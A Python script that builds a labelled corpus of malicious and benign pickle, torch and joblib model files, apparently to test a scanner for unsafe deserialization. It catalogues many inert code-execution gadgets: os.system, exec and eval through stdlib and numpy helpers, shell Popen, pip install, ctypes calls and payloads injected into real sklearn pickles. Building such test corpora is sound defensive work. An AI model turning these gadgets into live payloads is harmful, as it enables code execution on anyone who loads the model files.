#!/usr/bin/env python3
"""Red-team round 4 generator. Run with /work/venv-fix/bin/python (numpy, sklearn, joblib).
Pandas benign files come from /tmp/rt2venv/bin/python if present.
Payloads are inert ('true' / 'True'); nothing here is ever loaded.
Run as: PYTHONHASHSEED=0 /work/venv-fix/bin/python -W ignore gen_redteam4.py  (byte-for-byte reproducible).
class 'benign-borderline' = synthetic config dicts storing functools.partial(<builtin>) / operator.attrgetter
(never called at load); the parent decides whether these count as benign real model files."""
import os; os.environ["SETUPTOOLS_USE_DISTUTILS"] = "stdlib"
import io, pickle, zipfile, subprocess, sys, shutil, operator, functools, builtins, importlib
import bdb, timeit, cProfile, trace, code, pkgutil, venv, ensurepip, uuid, imaplib, doctest, pydoc, profile, pdb
import idlelib.autocomplete, idlelib.calltip, lib2to3.pgen2.grammar, lib2to3.pgen2.pgen
import asyncio.unix_events, distutils.spawn
import pip
import numpy.f2py.crackfortran, numpy.testing._private.utils

HERE = os.path.dirname(os.path.abspath(__file__))
MAL = os.path.join(HERE, 'malicious'); BEN = os.path.join(HERE, 'benign')
for d in (MAL, BEN):
    shutil.rmtree(d, ignore_errors=True); os.makedirs(d)
rows = []

class Glob:
    """Reference to module.name written as a global without pickle's identity check
    (the venv's setuptools shim replaces distutils, so distutils.spawn.spawn fails the check)."""
    def __init__(self, module, name): self.module, self.name = module, name
    def __call__(self, *a): raise RuntimeError('never')

class P_(pickle._Pickler):
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Glob):
            if self.proto >= 4:
                self.save(obj.module); self.save(obj.name); self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + obj.module.encode() + b'\n' + obj.name.encode() + b'\n')
            self.memoize(obj)
            return
        return super().save(obj, save_persistent_id)

def dumps(obj, protocol):
    b = io.BytesIO(); P_(b, protocol).dump(obj); return b.getvalue()

class R:
    """An object that pickles as REDUCE(f, args); never called here."""
    def __init__(self, f, args, state=None): self.f, self.args, self.state = f, args, state
    def __call__(self, *a): raise RuntimeError('never')
    def __reduce__(self):
        return (self.f, self.args) if self.state is None else (self.f, self.args, self.state)

def call_attr(obj, name, *args):  # obj.name(*args)
    return R(R(getattr, (obj, name)), args)

def wrap(payload):
    return {'epoch': 3, 'state_dict': {'w': [0.0, 1.0]}, 'hyper': payload}

def torch_zip(data_pkl):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo('archive/data.pkl', (1980, 1, 1, 0, 0, 0)), data_pkl)
        z.writestr(zipfile.ZipInfo('archive/byteorder', (1980, 1, 1, 0, 0, 0)), 'little')
        z.writestr(zipfile.ZipInfo('archive/version', (1980, 1, 1, 0, 0, 0)), '3\n')
        z.writestr(zipfile.ZipInfo('archive/.data/serialization_id', (1980, 1, 1, 0, 0, 0)), '0123456789')
    return b.getvalue()

def emit(kind, name, data, cls, desc):
    d = MAL if kind == 'malicious' else BEN
    p = os.path.join(d, name)
    with open(p, 'wb') as f: f.write(data)
    assert len(data) < 65536, name
    rows.append((os.path.relpath(p, HERE), 'malicious' if kind == 'malicious' else 'benign', cls, desc))

# ---- malicious payloads: (short, object, class, description)
P = []
P.append(('pip_main', R(pip.main, (['install', '--no-index', 'true'],)), 'pkg-install', "pip.main(['install', ...])"))
P.append(('bdb_run', call_attr(R(bdb.Bdb, ()), 'run', 'True'), 'exec-method', "bdb.Bdb().run('True') exec of code string"))
P.append(('pdb_run', call_attr(R(pdb.Pdb, ()), 'run', 'True'), 'exec-method', "pdb.Pdb().run('True')"))
P.append(('timeit', R(timeit.timeit, ('True', 'True', None, 1)), 'exec-function', "timeit.timeit(stmt, setup): setup/stmt are exec'd"))
P.append(('timer_timeit', call_attr(R(timeit.Timer, ('True', 'True')), 'timeit', 1), 'exec-method', "timeit.Timer(stmt, setup).timeit(1)"))
P.append(('cprofile_runctx', R(cProfile.runctx, ('True', {}, {})), 'exec-function', "cProfile.runctx(code, {}, {})"))
P.append(('cprofile_run', R(cProfile.run, ('True',)), 'exec-function', "cProfile.run(code)"))
P.append(('profile_runctx', call_attr(R(profile.Profile, ()), 'runctx', 'True', {}, {}), 'exec-method', "profile.Profile().runctx(code, {}, {})"))
P.append(('trace_runctx', call_attr(R(trace.Trace, ()), 'runctx', 'True', {}, {}), 'exec-method', "trace.Trace().runctx(code, {}, {})"))
P.append(('code_runcode', call_attr(R(code.InteractiveInterpreter, ()), 'runcode', 'True'), 'exec-method', "code.InteractiveInterpreter().runcode(code)"))
P.append(('code_runsource', call_attr(R(code.InteractiveConsole, ()), 'push', 'True'), 'exec-method', "code.InteractiveConsole().push(code)"))
P.append(('idle_autocomplete', call_attr(R(idlelib.autocomplete.AutoComplete, ()), 'get_entity', 'True'), 'exec-method', "idlelib.autocomplete.AutoComplete().get_entity(expr): eval"))
P.append(('idle_calltip', R(idlelib.calltip.get_entity, ('True',)), 'exec-function', "idlelib.calltip.get_entity(expr): eval"))
P.append(('lib2to3_grammar_load', call_attr(R(lib2to3.pgen2.grammar.Grammar, ()), 'load', '/tmp/x.pickle'), 'nested-unpickle', "lib2to3.pgen2.grammar.Grammar().load(path): pickle.load of a file"))
P.append(('lib2to3_pgen', R(lib2to3.pgen2.pgen.ParserGenerator, ('/etc/hostname',)), 'file-read', "lib2to3.pgen2.pgen.ParserGenerator(path): opens and parses a file"))
P.append(('asyncio_start', R(asyncio.unix_events._UnixSubprocessTransport._start, (None, 'true', True, None, None, None, 0)), 'process', "asyncio.unix_events._UnixSubprocessTransport._start(self, 'true', shell=True,...)"))
P.append(('pydoc_pipepager', R(pydoc.pipepager, ('x', 'true')), 'process', "pydoc.pipepager(text, cmd): runs cmd in a shell"))
P.append(('distutils_spawn', R(Glob("distutils.spawn", "spawn"), (['true'],)), 'process', "distutils.spawn.spawn(['true'])"))
P.append(('ensurepip_run_pip', R(ensurepip._run_pip, (['--version'],)), 'pkg-install', "ensurepip._run_pip(args) runs pip code in-process"))
P.append(('venv_create', call_attr(R(venv.EnvBuilder, (), None), 'create', '/tmp/aisec-rt4-venv'), 'fs-write', "venv.EnvBuilder().create(path)"))
P.append(('pkgutil_resolve', R(R(pkgutil.resolve_name, ('os:system',)), ('true',)), 'dynamic-resolve', "pkgutil.resolve_name('os:system')('true')"))
P.append(('pkgutil_resolve_dot', R(R(pkgutil.resolve_name, ('subprocess.getoutput',)), ('true',)), 'dynamic-resolve', "pkgutil.resolve_name('subprocess.getoutput')('true')"))
P.append(('methodcaller', R(R(operator.methodcaller, ('system', 'true')), (R(importlib.import_module, ('os',)),)), 'higher-order', "operator.methodcaller('system','true')(importlib.import_module('os'))"))
P.append(('attrgetter', R(R(R(operator.attrgetter, ('system',)), (R(importlib.import_module, ('os',)),)), ('true',)), 'higher-order', "operator.attrgetter('system')(import_module('os'))('true')"))
P.append(('reduce_getattr', R(R(functools.reduce, (getattr, ['_os', 'system'], R(importlib.import_module, ('random',)))), ('true',)), 'higher-order', "functools.reduce(getattr, ['_os','system'], import_module('random'))('true')"))
P.append(('reduce_getattr_sysmod', R(R(functools.reduce, (getattr, ['modules'], R(importlib.import_module, ('sys',)))), ()), 'higher-order', "functools.reduce(getattr, ['modules'], sys) (sys.modules handle)"))
P.append(('uuid_cmd', R(uuid._get_command_stdout, ('true',)), 'process', "uuid._get_command_stdout('true')"))
P.append(('imaplib_stream', R(imaplib.IMAP4_stream, ('true',)), 'process', "imaplib.IMAP4_stream('true'): Popen(cmd, shell=True)"))
P.append(('doctest_debug_script', R(doctest.debug_script, ('True',)), 'exec-function', "doctest.debug_script(src): exec under pdb"))
P.append(('f2py_myeval', R(numpy.f2py.crackfortran.myeval, ('True', {}, {})), 'exec-function', "numpy.f2py.crackfortran.myeval(expr): eval"))
P.append(('np_runstring', R(numpy.testing._private.utils.runstring, ('True', {})), 'exec-function', "numpy.testing._private.utils.runstring(src, dict): exec"))
P.append(('builtins_import_getattr', R(R(getattr, (R(builtins.__import__, ('os',)), 'system')), ('true',)), 'higher-order', "getattr(__import__('os'),'system')('true')"))
P.append(('partial_build', R(functools.partial, (str,), (Glob("distutils.spawn", "spawn"), (['true'],), {}, None)), 'build-state', "partial(str) BUILD swaps func to distutils.spawn.spawn(['true'])"))

# ---- round-4b: unbound methods by nested qualname, higher-order runners, lazy iterators consumed by builtins
import atexit, weakref, threading, concurrent.futures, itertools, collections, ctypes, zipimport, importlib.machinery, logging.config
OS = R(importlib.import_module, ('os',))
SYSTEM = R(getattr, (OS, 'system'))
P.append(('bdb_unbound_run', R(bdb.Bdb.run, (R(bdb.Bdb, ()), 'True')), 'exec-method', "bdb.Bdb.run(Bdb(), code) (nested qualname Bdb.run)"))
P.append(('interp_unbound_runsource', R(code.InteractiveInterpreter.runsource, (R(code.InteractiveInterpreter, ()), 'True')), 'exec-method', "code.InteractiveInterpreter.runsource(obj, src)"))
P.append(('timer_unbound', R(timeit.Timer.timeit, (R(timeit.Timer, ('True', 'True')), 1)), 'exec-method', "timeit.Timer.timeit(Timer(stmt, setup), 1)"))
P.append(('bdb_runcall', call_attr(R(bdb.Bdb, ()), 'runcall', SYSTEM, 'true'), 'higher-order', "bdb.Bdb().runcall(os.system, 'true')"))
P.append(('cprofile_runcall', call_attr(R(cProfile.Profile, ()), 'runcall', SYSTEM, 'true'), 'higher-order', "cProfile.Profile().runcall(os.system, 'true')"))
P.append(('trace_runfunc', call_attr(R(trace.Trace, ()), 'runfunc', SYSTEM, 'true'), 'higher-order', "trace.Trace().runfunc(os.system, 'true')"))
P.append(('operator_call', R(operator.call, (SYSTEM, 'true')), 'higher-order', "operator.call(getattr(import_module('os'),'system'), 'true') (3.11)"))
P.append(('list_map_system', R(list, (R(map, (SYSTEM, ['true'])),)), 'higher-order', "list(map(os.system, ['true']))"))
P.append(('deque_starmap_eval', R(collections.deque, (R(itertools.starmap, (eval, [('True',)])),)), 'higher-order', "collections.deque(itertools.starmap(eval, [('True',)]))"))
P.append(('tuple_map_exec', R(tuple, (R(map, (exec, ['True'])),)), 'higher-order', "tuple(map(exec, ['True']))"))
P.append(('dict_map_getoutput', R(dict.fromkeys, (R(map, (Glob('subprocess', 'getoutput'), ['true'])),)), 'higher-order', "dict.fromkeys(map(subprocess.getoutput, ['true']))"))
P.append(('atexit_register', R(atexit.register, (SYSTEM, 'true')), 'higher-order', "atexit.register(os.system, 'true')"))
P.append(('weakref_finalize', R(weakref.finalize, (R(dict, ()), SYSTEM, 'true')), 'higher-order', "weakref.finalize(obj, os.system, 'true')"))
P.append(('thread_start', call_attr(R(threading.Thread, (None, SYSTEM, None, ('true',))), 'start'), 'higher-order', "threading.Thread(target=os.system, args=('true',)).start()"))
P.append(('executor_submit', call_attr(R(concurrent.futures.ThreadPoolExecutor, (1,)), 'submit', SYSTEM, 'true'), 'higher-order', "ThreadPoolExecutor(1).submit(os.system, 'true')"))
P.append(('ctypes_cdll_system', R(R(getattr, (R(ctypes.CDLL, (None,)), 'system')), (b'true',)), 'native', "getattr(ctypes.CDLL(None), 'system')(b'true')"))
P.append(('zipimporter_load', call_attr(R(zipimport.zipimporter, ('/tmp/x.zip',)), 'load_module', 'm'), 'code-load', "zipimport.zipimporter(path).load_module('m')"))
P.append(('sourceloader_load', call_attr(R(importlib.machinery.SourceFileLoader, ('m', '/tmp/x.py')), 'load_module'), 'code-load', "SourceFileLoader('m', path).load_module()"))
P.append(('logging_dictconfig', R(logging.config.dictConfig, ({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'true'}}},)), 'dynamic-resolve', "logging.config.dictConfig with handler factory '()': 'os.system'"))
P.append(('logging_fileconfig', R(logging.config.fileConfig, ('/tmp/x.ini',)), 'dynamic-resolve', "logging.config.fileConfig(path): evals handler args from a file"))

P.append(('partial_sorted_key', R(R(functools.partial, (sorted,), (sorted, (), {'key': SYSTEM}, None)), (['true'],)), 'higher-order', "partial(sorted, key=os.system)(['true']) (keywords via partial BUILD state)"))
P.append(('partial_max_key_eval', R(R(functools.partial, (max,), (max, (), {'key': eval}, None)), (['True', 'False'],)), 'higher-order', "partial(max, key=eval)(['True','False'])"))
P.append(('partial_kw_popen', R(R(functools.partial, (Glob('subprocess', 'Popen'),), (Glob('subprocess', 'Popen'), (), {'shell': True}, None)), ('true',)), 'process', "partial(subprocess.Popen, shell=True)('true')"))

import marshal, types, smtplib, ftplib, socket, urllib.request, http.client, pathlib, shutil as _sh, codecs, unittest.mock, pydoc as _pd, xmlrpc.client
CODE = marshal.dumps(compile('True', '<x>', 'exec'))
P.append(('marshal_functiontype', R(R(Glob('types', 'FunctionType'), (R(marshal.loads, (CODE,)), {})), ()), 'code-object', "types.FunctionType(marshal.loads(code), {})() (inert code 'True')"))
P.append(('exec_marshal', R(exec, (R(marshal.loads, (CODE,)),)), 'code-object', "exec(marshal.loads(code))"))
P.append(('pydoc_locate_call', R(R(_pd.locate, ('subprocess.getoutput',)), ('true',)), 'dynamic-resolve', "pydoc.locate('subprocess.getoutput')('true')"))
P.append(('smtp_connect', R(smtplib.SMTP, ('127.0.0.1', 9)), 'network', "smtplib.SMTP('127.0.0.1', 9) connects"))
P.append(('ftp_connect', R(ftplib.FTP, ('127.0.0.1',)), 'network', "ftplib.FTP('127.0.0.1') connects"))
P.append(('socket_conn', R(socket.create_connection, (('127.0.0.1', 9),)), 'network', "socket.create_connection(('127.0.0.1', 9))"))
P.append(('urlretrieve', R(urllib.request.urlretrieve, ('http://127.0.0.1:9/x', '/tmp/x')), 'network', "urllib.request.urlretrieve(url, path)"))
P.append(('httpconn_request', call_attr(R(http.client.HTTPConnection, ('127.0.0.1', 9)), 'request', 'GET', '/'), 'network', "http.client.HTTPConnection(host).request('GET','/')"))
P.append(('xmlrpc_proxy', R(R(getattr, (R(xmlrpc.client.ServerProxy, ('http://127.0.0.1:9',)), 'run')), ('true',)), 'network', "xmlrpc.client.ServerProxy(url).run('true') remote call"))
P.append(('path_write_text', call_attr(R(pathlib.PosixPath, ('/tmp/aisec-rt4',)), 'write_text', 'x'), 'fs-write', "pathlib.PosixPath(path).write_text('x')"))
P.append(('path_unlink', call_attr(R(pathlib.Path, ('/tmp/aisec-rt4',)), 'unlink'), 'fs-write', "pathlib.Path(path).unlink()"))
P.append(('shutil_copyfile', R(_sh.copyfile, ('/etc/hostname', '/tmp/aisec-rt4')), 'fs-write', "shutil.copyfile(src, dst)"))
P.append(('codecs_open_w', R(codecs.open, ('/tmp/aisec-rt4', 'w')), 'fs-write', "codecs.open(path, 'w') truncates"))

# ---- trusted-library (numpy/pandas/joblib/xgboost) callables that touch files, processes or native code.
# Written as Glob (hand-written PoC style); existence checked in /tmp/rt2venv (numpy 1.26.4, pandas 2.2.3).
G = Glob
P.append(('np_memmap_w', R(G('numpy', 'memmap'), ('/tmp/aisec-rt4', 'uint8', 'w+', 0, (16,))), 'trusted-lib-fs', "numpy.memmap(path, mode='w+') creates/truncates a file"))
P.append(('np_open_memmap_w', R(G('numpy.lib.format', 'open_memmap'), ('/tmp/aisec-rt4.npy', 'w+', 'uint8', (4,))), 'trusted-lib-fs', "numpy.lib.format.open_memmap(path, 'w+')"))
P.append(('np_load_library', R(G('numpy.ctypeslib', 'load_library'), ('libc', '/lib/x86_64-linux-gnu')), 'trusted-lib-native', "numpy.ctypeslib.load_library: dlopen of an arbitrary library"))
P.append(('np_save', R(G('numpy', 'save'), ('/tmp/aisec-rt4.npy', [1])), 'trusted-lib-fs', "numpy.save(path, arr) writes a file"))
P.append(('np_savetxt', R(G('numpy', 'savetxt'), ('/tmp/aisec-rt4.txt', [1])), 'trusted-lib-fs', "numpy.savetxt(path, arr) writes a file"))
P.append(('np_load_pickle', R(R(functools.partial, (G('numpy', 'load'),), (G('numpy', 'load'), (), {'allow_pickle': True}, None)), ('/tmp/x.npy',)), 'trusted-lib-nested', "partial(numpy.load, allow_pickle=True)(path): nested unpickle"))
P.append(('np_datasource_open', call_attr(R(G('numpy', 'DataSource'), ('/tmp',)), 'open', 'http://127.0.0.1:9/x'), 'trusted-lib-network', "numpy.DataSource(dir).open(url): downloads"))
P.append(('np_exec_command', R(G('numpy.distutils.exec_command', 'exec_command'), ('true',)), 'trusted-lib-process', "numpy.distutils.exec_command.exec_command('true')"))
P.append(('pd_read_pickle', R(G('pandas', 'read_pickle'), ('/tmp/x.pkl',)), 'trusted-lib-nested', "pandas.read_pickle(path): nested unpickle"))
P.append(('pd_io_read_pickle', R(G('pandas.io.pickle', 'read_pickle'), ('/tmp/x.pkl',)), 'trusted-lib-nested', "pandas.io.pickle.read_pickle(path)"))
P.append(('pd_eval', R(G('pandas', 'eval'), ('1+1',), None), 'trusted-lib-exec', "pandas.eval(expr) expression evaluation"))
P.append(('pd_read_csv_url', R(G('pandas', 'read_csv'), ('http://127.0.0.1:9/x.csv',)), 'trusted-lib-network', "pandas.read_csv(url): network fetch"))
P.append(('pd_clipboard', R(G('pandas.io.clipboard', 'copy'), ('x',)), 'trusted-lib-process', "pandas.io.clipboard.copy: spawns xclip/xsel"))
P.append(('joblib_load', R(G('joblib', 'load'), ('/tmp/x.joblib',)), 'trusted-lib-nested', "joblib.load(path): nested unpickle"))
P.append(('np_extbuild', R(G('numpy.testing._private.extbuild', 'build_and_import_extension'), ('m', [])), 'trusted-lib-native', "numpy.testing._private.extbuild.build_and_import_extension: compiles and imports C"))
P.append(('scipy_savemat', R(G('scipy.io', 'savemat'), ('/tmp/aisec-rt4.mat', {})), 'trusted-lib-fs', "scipy.io.savemat(path, {}) writes a file"))

for short, obj, cls, desc in P:
    for proto in (0, 2, 4, 5):
        if short not in ('pip_main', 'bdb_run', 'timeit', 'pkgutil_resolve', 'methodcaller', 'reduce_getattr') and proto in (0, 5):
            continue
        emit('malicious', f'{short}_p{proto}.pkl', dumps(obj, proto), cls, f'{desc}, protocol {proto}')
    emit('malicious', f'{short}_torch.pt', torch_zip(dumps(wrap(obj), 2)), cls, f'{desc}, torch.save-shaped zip archive/data.pkl inside a checkpoint dict')

import joblib
from sklearn.pipeline import make_pipeline
for short, obj, cls, desc in P[:12] + P[20:25]:  # joblib's pickler cannot take Glob; none of these use it
    p = os.path.join(MAL, f'{short}.joblib')
    joblib.dump({'model': obj, 'meta': 'v1'}, p, compress=(3 if len(rows) % 2 else 0))
    rows.append((os.path.relpath(p, HERE), 'malicious', cls, f'{desc}, joblib.dump'))

# ---- hand-assembled INST (protocol 0) and OBJ (protocol 1) calls; pickletools-checked below
RAW = [
    ('inst_timeit', b"(S'True'\nS'True'\nitimeit\ntimeit\np0\n.", 'inst-obj', "INST timeit.timeit('True','True')"),
    ('inst_calltip', b"(S'True'\niidlelib.calltip\nget_entity\np0\n.", 'inst-obj', "INST idlelib.calltip.get_entity('True')"),
    ('inst_pipepager', b"(S'x'\nS'true'\nipydoc\npipepager\np0\n.", 'inst-obj', "INST pydoc.pipepager('x','true')"),
    ('inst_uuid', b"(S'true'\niuuid\n_get_command_stdout\np0\n.", 'inst-obj', "INST uuid._get_command_stdout('true')"),
    ('inst_spawn_list', b"((lp0\nS'true'\np1\naidistutils.spawn\nspawn\np2\n.", 'inst-obj', "INST distutils.spawn.spawn(['true'])"),
    ('inst_pip', b"((lp0\nS'install'\naS'true'\naipip\nmain\np1\n.", 'inst-obj', "INST pip.main(['install','true'])"),
    ('obj_debug_script', b"(cdoctest\ndebug_script\nX\x04\x00\x00\x00Trueo.", 'inst-obj', "OBJ doctest.debug_script('True') protocol 1"),
    ('obj_imap_stream', b"(cimaplib\nIMAP4_stream\nX\x04\x00\x00\x00trueo.", 'inst-obj', "OBJ imaplib.IMAP4_stream('true') protocol 1"),
    ('obj_runstring', b"(cnumpy.testing._private.utils\nruns" + b"tring\nX\x04\x00\x00\x00True}o.", 'inst-obj', "OBJ numpy.testing._private.utils.runstring('True', {})"),
    ('obj_cprofile_runctx', b"(ccProfile\nrunctx\nX\x04\x00\x00\x00True}}o.", 'inst-obj', "OBJ cProfile.runctx('True', {}, {})"),
]
import pickletools as _pt
for short, data, cls, desc in RAW:
    list(_pt.genops(data))  # well-formed
    emit('malicious', f'{short}.pkl', data, cls, desc)
    emit('malicious', f'{short}_torch.pt', torch_zip(data), cls, desc + ', as torch zip archive/data.pkl')
# deferred payload: a real sklearn FunctionTransformer whose func is subprocess.getoutput (runs on transform, not load)
from sklearn.preprocessing import FunctionTransformer as _FT
import subprocess as _sp
_ftm = _FT(func=_sp.getoutput)
emit('malicious', 'ft_getoutput_p4.pkl', pickle.dumps(_ftm, protocol=4), 'deferred-callable', 'FunctionTransformer(func=subprocess.getoutput): dangerous callable stored for later, protocol 4')
p = os.path.join(MAL, 'ft_ossystem.joblib'); joblib.dump(make_pipeline(_FT(func=os.system)), p)
rows.append((os.path.relpath(p, HERE), 'malicious', 'deferred-callable', 'joblib Pipeline(FunctionTransformer(func=os.system))'))
for proto in (1, 3):
    for short, obj, cls, desc in P[:6]:
        emit('malicious', f'{short}_p{proto}.pkl', dumps(obj, proto), cls, f'{desc}, protocol {proto}')

# ---- injection into real model pickles
from sklearn.linear_model import LogisticRegression as _LR
_lr = _LR().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
_good = pickle.dumps(_lr, protocol=2)
for short, obj, cls, desc in (P[0], P[3], P[20]):
    body = dumps(obj, 2)[2:-1]  # strip PROTO 2 and STOP
    emit('malicious', f'inject_tail_{short}.pkl', _good[:-1] + body + b'0.', 'injection', f'real LogisticRegression pickle, payload appended before STOP then POPped: {desc}')
    emit('malicious', f'inject_head_{short}.pkl', b'\x80\x02' + body + b'0' + _good[2:], 'injection', f'payload run then POPped, followed by real LogisticRegression pickle: {desc}')
    _lr2 = _LR().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1]); _lr2.__dict__['warm_start'] = obj
    emit('malicious', f'inject_state_{short}.pkl', dumps(_lr2, 4), 'injection', f'LogisticRegression whose BUILD state dict holds the payload: {desc}')
    p = os.path.join(MAL, f'inject_state_{short}.joblib'); joblib.dump(_lr2, p)
    rows.append((os.path.relpath(p, HERE), 'malicious', 'injection', f'joblib of LogisticRegression whose state holds the payload: {desc}'))

class _PidPickler(P_):
    def __init__(self, f, proto, payload): super().__init__(f, proto); self._payload = payload
    def persistent_id(self, obj):
        if isinstance(obj, bytearray): return ('storage', Glob('torch', 'FloatStorage'), self._payload, 'cpu', 4)
        return None
for short, obj, cls, desc in (P[1], P[5], P[21]):
    b = io.BytesIO()
    _PidPickler(b, 2, obj).dump({'w': R(Glob('torch._utils', '_rebuild_tensor_v2'), (bytearray(b'x'), 0, (4,), (1,), False, {}))})
    emit('malicious', f'pid_{short}_torch.pt', torch_zip(b.getvalue()), 'torch-persid', f'torch zip: payload nested inside the BINPERSID storage key tuple: {desc}')

# ---- benign
import numpy as np
from sklearn.pipeline import Pipeline, make_pipeline
from sklearn.feature_extraction.text import TfidfVectorizer, CountVectorizer, HashingVectorizer
from sklearn.linear_model import LogisticRegression, SGDClassifier
from sklearn.naive_bayes import MultinomialNB
from sklearn.preprocessing import StandardScaler
texts = ['good movie', 'bad movie', 'great plot', 'awful acting', 'fine film', 'terrible film'] * 3
y = [1, 0, 1, 0, 1, 0] * 3
models = {
    'tfidf_lr': Pipeline([('tfidf', TfidfVectorizer(ngram_range=(1, 2))), ('lr', LogisticRegression())]),
    'count_nb': make_pipeline(CountVectorizer(stop_words='english'), MultinomialNB()),
    'hash_sgd': make_pipeline(HashingVectorizer(n_features=256), SGDClassifier(random_state=0)),
    'tfidf_char': make_pipeline(TfidfVectorizer(analyzer='char_wb', ngram_range=(2, 3), max_features=200), LogisticRegression()),
}
for name, m in models.items():
    m.fit(texts, y)
    for _st in m.named_steps.values():  # sklearn stores id(self.stop_words) (varies per process): pin for reproducible bytes
        if hasattr(_st, '_stop_words_id'): _st._stop_words_id = 94000000000000
    emit('benign', f'{name}_p4.pkl', pickle.dumps(m, protocol=4), 'benign-sklearn-text', f'{name} text pipeline, protocol 4')
    emit('benign', f'{name}_p2.pkl', pickle.dumps(m, protocol=2), 'benign-sklearn-text', f'{name} text pipeline, protocol 2')
    p = os.path.join(BEN, f'{name}.joblib'); joblib.dump(m, p, compress=3)
    rows.append((os.path.relpath(p, HERE), 'benign', 'benign-sklearn-text', f'{name} text pipeline, joblib compress=3'))

import functools as _ft
bm = {
    'tfidf_strsplit': make_pipeline(TfidfVectorizer(tokenizer=str.split, preprocessor=str.lower, token_pattern=None, dtype=np.float32), LogisticRegression()),
    'count_binary_int8': make_pipeline(CountVectorizer(binary=True, dtype=np.int8, max_df=0.9, min_df=1), MultinomialNB()),
}
from sklearn.preprocessing import FunctionTransformer
for name, m in bm.items():
    m.fit(texts, y)
    for _st in m.named_steps.values():  # sklearn stores id(self.stop_words) (varies per process): pin for reproducible bytes
        if hasattr(_st, '_stop_words_id'): _st._stop_words_id = 94000000000000
    emit('benign', f'{name}_p4.pkl', pickle.dumps(m, protocol=4), 'benign-sklearn-text', f'{name} text pipeline, protocol 4')
    p = os.path.join(BEN, f'{name}.joblib'); joblib.dump(m, p)
    rows.append((os.path.relpath(p, HERE), 'benign', 'benign-sklearn-text', f'{name} text pipeline, joblib'))
X = np.random.default_rng(0).normal(size=(40, 4))
ft = make_pipeline(FunctionTransformer(_ft.partial(np.clip, a_min=0.0, a_max=None)), StandardScaler()).fit(np.abs(X))
emit('benign', 'ft_partial_clip_p4.pkl', pickle.dumps(ft, protocol=4), 'benign-sklearn', 'FunctionTransformer(functools.partial(np.clip, a_min=0)), protocol 4')
emit('benign', 'ft_partial_clip_p2.pkl', pickle.dumps(ft, protocol=2), 'benign-sklearn', 'FunctionTransformer(functools.partial(np.clip, a_min=0)), protocol 2')

# benign: hyper-parameter containers that real checkpoints carry (fastai/Lightning style)
import argparse, re, decimal, fractions, uuid as _uuid, datetime, collections as _co, types as _ty, pathlib as _pl
hp = {
    'path': _pl.PosixPath('/data/train.csv'), 'pure': _pl.PurePosixPath('models/x'),
    'args': argparse.Namespace(lr=0.1, epochs=3, out=_pl.PosixPath('runs')),
    'ns': _ty.SimpleNamespace(a=1), 'dd': _co.defaultdict(list, {'a': [1]}), 'di': _co.defaultdict(int),
    'cnt': _co.Counter('aab'), 'od': _co.OrderedDict(a=1), 're': re.compile(r'\w+', re.I), 'dec': decimal.Decimal('1.5'),
    'frac': fractions.Fraction(1, 3), 'uuid': _uuid.UUID(int=7), 'sl': slice(1, 5, 2), 'rg': range(3), 'ba': bytearray(b'ab'),
    'cx': 1 + 2j, 'when': datetime.datetime(2024, 1, 2, tzinfo=datetime.timezone.utc), 'td': datetime.timedelta(3), 'fs': frozenset([1]),
}
for proto in (0, 2, 4):
    emit('benign', f'hparams_p{proto}.pkl', pickle.dumps(hp, protocol=proto), 'benign-stdlib', f'hyper-parameter dict (PosixPath, Namespace, defaultdict(list), Counter, re, Decimal, UUID, slice, range...), protocol {proto}')
emit('benign', 'hparams_torch.pt', torch_zip(pickle.dumps({'hyper_parameters': hp, 'epoch': 2}, protocol=2)), 'benign-torch-shaped', 'torch-shaped zip: checkpoint with hyper_parameters dict (PosixPath, Namespace, ...)')
sgd = SGDClassifier(random_state=np.random.RandomState(0)).fit(np.random.default_rng(1).normal(size=(20, 3)), [0, 1] * 10)
emit('benign', 'sgd_randomstate_p4.pkl', pickle.dumps(sgd, protocol=4), 'benign-sklearn', 'SGDClassifier(random_state=RandomState(0)), protocol 4')
emit('benign', 'generator_p4.pkl', pickle.dumps({'rng': np.random.default_rng(3), 'dt': np.dtype('float32')}, protocol=4), 'benign-numpy', 'numpy 2 Generator + dtype, protocol 4')

import operator as _op
# `operator.attrgetter` is not in this state on purpose: the scanner's policy flags building one as
# critical (it is the classic gadget for reaching attributes by name), and benign model files do not
# store it; a config that does is expected to be reported.
nlp = {'bigram': _co.defaultdict(_ft.partial(_co.defaultdict, int), {'a': _co.defaultdict(int, {'b': 2})}),
       'sort_key': _op.itemgetter(1), 'combine': _ft.partial(max, default=0),
       'vocab': _co.Counter({'the': 10, 'a': 3})}
for k, v in nlp.items():
    emit('benign', f'nlp_{k}_p4.pkl', pickle.dumps({k: v}, protocol=4), 'benign-borderline', f'NLP state item {k!r} alone, protocol 4')
for proto in (2, 4):
    emit('benign', f'nlp_state_p{proto}.pkl', pickle.dumps(nlp, protocol=proto), 'benign-borderline', f'NLP state: defaultdict(partial(defaultdict,int)), itemgetter(1), partial(max, default=0), protocol {proto}')

_pf = {'int16': _ft.partial(int, base=16), 'round2': _ft.partial(round, ndigits=2), 'sortrev': _ft.partial(sorted, reverse=True),
       'minfn': _ft.partial(min, default=0), 'strip': str.strip, 'sum': sum, 'abs': abs, 'len': len}
for k, v in _pf.items():
    emit('benign', f'cfg_{k}_p4.pkl', pickle.dumps({'post': v}, protocol=4), 'benign-borderline', f'config holding {v!r} (stored, never called at load), protocol 4')
rng = np.random.default_rng(0)
X = rng.normal(size=(40, 4)); sc = StandardScaler().fit(X)
emit('benign', 'scaler_p5.pkl', pickle.dumps(sc, protocol=5), 'benign-sklearn', 'StandardScaler, protocol 5')
p = os.path.join(BEN, 'arrays.joblib'); joblib.dump({'a': X, 'i': np.arange(10), 's': np.array(['a', 'bb'])}, p)
rows.append((os.path.relpath(p, HERE), 'benign', 'benign-numpy', 'joblib dict of float/int/str arrays'))
b = io.BytesIO(); np.savez(b, w=X, b=np.arange(4, dtype=np.int16)); emit('benign', 'weights.npz', b.getvalue(), 'benign-npz', 'np.savez weights')
b = io.BytesIO(); np.savez_compressed(b, w=X); emit('benign', 'weights_c.npz', b.getvalue(), 'benign-npz', 'np.savez_compressed weights')
emit('benign', 'ndarray_p4.pkl', pickle.dumps({'emb': X.astype(np.float32), 'vocab': {'a': 0}}, protocol=4), 'benign-numpy', 'dict of float32 ndarray + vocab')
